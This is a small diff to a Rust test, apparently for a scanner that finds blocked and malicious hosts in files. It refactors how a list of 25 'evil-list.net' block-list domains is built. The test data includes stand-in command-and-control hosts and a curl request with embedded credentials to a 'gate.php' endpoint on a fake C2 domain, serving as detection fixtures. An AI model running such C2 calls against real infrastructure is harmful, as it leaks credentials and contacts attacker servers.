@@ -532,7 +532,8 @@ fn with_files(folder: &Path, files: &[(&str, &[u8])]) -> String {
 #[test]
 fn parts_places_and_expressions_are_all_found() {
     let home = tempfile::tempdir().unwrap();
-    let blocked: String = (0..25).map(|number| format!("blocked{number}.evil-list.net\n")).collect();
+    let blocked: Vec<String> = (0..25).map(|number| format!("blocked{number}.evil-list.net\n")).collect();
+    let blocked = blocked.concat();
     let both = "one.evil-c2.net two.evil-c2.net\n";
     let get = ["curl https://bot:", "k3Jd9xTmWq@three.evil-c2.net/gate.php?x\n"].concat();
     let made = with_files(
